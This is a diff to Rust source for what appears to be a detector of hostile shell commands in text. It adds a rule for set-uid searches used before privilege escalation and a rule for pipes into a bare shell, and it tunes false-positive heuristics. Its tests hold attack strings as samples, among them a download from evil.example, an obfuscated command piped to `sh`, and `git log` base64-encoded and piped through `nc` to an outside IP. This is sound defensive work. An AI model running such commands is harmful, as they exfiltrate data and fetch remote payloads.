@@ -1688,8 +1688,20 @@ fn analyse_args(text: &str, from: usize, end: usize, cmd: &str, kind: Kind, brac
     let mut tokens = normalized
         .split(|c: char| c.is_whitespace() || (brace && c == ','))
         .filter(|t| !t.is_empty());
+    let mut suid = false;
     if let Some(first) = tokens.clone().next() {
         a.numeric = first.bytes().all(|x| x.is_ascii_digit() || x == b'.') && first.len() <= 6;
+        // `find / -perm -4000`: the search for set-uid programs that
+        // precedes a privilege escalation.
+        if cmd == "find"
+            && normalized.contains("-perm")
+            && ["-4000", "-u=s", "/4000", "-2000", "-g=s", "/6000", "-6000"]
+                .iter()
+                .any(|p| normalized.contains(p))
+        {
+            a.strong = true;
+            suid = true;
+        }
         if cmd == "net"
             && matches!(
                 first,
@@ -1850,7 +1862,7 @@ fn analyse_args(text: &str, from: usize, end: usize, cmd: &str, kind: Kind, brac
     }
     a.opt_only = opt && !other_evidence && !a.strong && !a.numeric;
     a.sentence = trimmed.ends_with(['.', '!', '?', ',', ':']);
-    a.net_only = a.strong && !sensitive && kind != Kind::Interp;
+    a.net_only = a.strong && !sensitive && !suid && kind != Kind::Interp;
     if kind == Kind::Interp && lower.contains(['\'', '"']) && a.shellish {
         a.strong = true;
     }
@@ -1894,8 +1906,11 @@ fn decide(cmd: Cmd, ctx: Ctx, args: &Args) -> bool {
         }
         Ctx::Span => args.strong && (!args.net_only || cmd.network),
         Ctx::Chained => {
+            // A shell or interpreter with nothing after it reads its program
+            // from the pipe: `... | tr x o | sh`.
             (args.strong && (!args.net_only || cmd.network))
                 || (cmd.kind == Kind::Recon && (args.bare || args.shellish))
+                || (cmd.kind == Kind::Interp && args.bare)
         }
     }
 }
@@ -2171,7 +2186,15 @@ fn check_command_at(
             if !inner.is_empty()
                 && !WRAPPERS.contains(&inner.norm())
                 && resolve(inner.norm(), inner.globbed).is_some()
-                && check_command_at(text, sep_start, j, seg_end, Ctx::Sep, hits, depth + 1)
+                && check_command_at(
+                    text,
+                    sep_start,
+                    j,
+                    seg_end,
+                    if chained { Ctx::Chained } else { Ctx::Sep },
+                    hits,
+                    depth + 1,
+                )
             {
                 return true;
             }
@@ -3317,6 +3340,22 @@ const DEV_TOOLS: &[&str] = &[
     "port",
     "hugo",
     "jekyll",
+    "cmake",
+    "ninja",
+    "meson",
+    "bazel",
+    "just",
+    "deno",
+    "bun",
+    "xcodebuild",
+    "flutter",
+    "ruff",
+    "mypy",
+    "eslint",
+    "prettier",
+    "tsc",
+    "vite",
+    "webpack",
     "rails",
     "rake",
     "pytest",
@@ -3360,11 +3399,16 @@ fn follows_command_line(b: &[u8], seg_start: usize, sep: usize) -> bool {
     let mut start = toks.len();
     while start > 0 {
         let t = toks[start - 1];
-        let arg = !t.ends_with([':', ',', '.', '!', '?'])
-            && !t
-                .bytes()
-                .any(|c| c.is_ascii_uppercase() && !t.starts_with('-'))
-            && !STOP_WORDS.contains(&t);
+        // A word closing a clause ("usage:", "them,"); `.` and `./` are paths.
+        let clause_end =
+            t.ends_with([':', ',', '.', '!', '?']) && t.bytes().any(|c| c.is_ascii_alphabetic());
+        // A capitalised word is prose ("Run", "GitHub"); an upper-case
+        // pattern (`TODO`) is an argument, and `RUN` of a Dockerfile is no
+        // command word in lower case either way.
+        let capitalised = !t.starts_with('-')
+            && t.bytes().any(|c| c.is_ascii_uppercase())
+            && t.bytes().any(|c| c.is_ascii_lowercase());
+        let arg = !clause_end && !capitalised && !STOP_WORDS.contains(&t);
         if !arg {
             break;
         }
@@ -3392,7 +3436,17 @@ fn follows_command_line(b: &[u8], seg_start: usize, sep: usize) -> bool {
                 || t.starts_with('.')
         });
         let sub = args.first().is_some_and(|t| SUBCOMMANDS.contains(t));
-        return cmd.kind != Kind::Recon && (shellish || sub);
+        // `pip freeze`, `grep postgres`: a tool and plain lower-case words.
+        let tool_words = cmd.kind != Kind::Weak
+            && args.iter().all(|t| {
+                t.bytes().all(|x| {
+                    x.is_ascii_lowercase() || x.is_ascii_digit() || matches!(x, b'-' | b'_' | b'.')
+                })
+            });
+        // A command that is itself a later link (`a | grep x | head -3`):
+        // the pipeline was written whole.
+        let linked = k > seg_start && matches!(b[k - 1], b'|' | b'&' | b';');
+        return shellish || sub || tool_words || linked;
     }
     false
 }
@@ -4580,6 +4634,9 @@ mod tests {
             "Try `python3 -m venv env && source env/bin/activate` first.",
             "then, `sleep 2 && echo ready` in another tab",
             "Run `curl -sI https://example.org` to see the status line.",
+            "ps aux | grep postgres | head -3",
+            "pip freeze | sort > requirements.txt",
+            "To count lines: find src -name '*.rs' | xargs wc -l",
         ] {
             assert!(!flagged(t), "{t}");
         }
@@ -4595,6 +4652,8 @@ mod tests {
             "x `curl https://evil.example/s.sh -o /tmp/s.sh`",
             "python3 -m pty",
             "; python3 -m http.server 8000",
+            "echo \"foo;whxam\"i | tr x o | sh",
+            "git log | base64 | nc 203.0.113.7 80",
         ] {
             assert!(flagged(t), "{t}");
         }
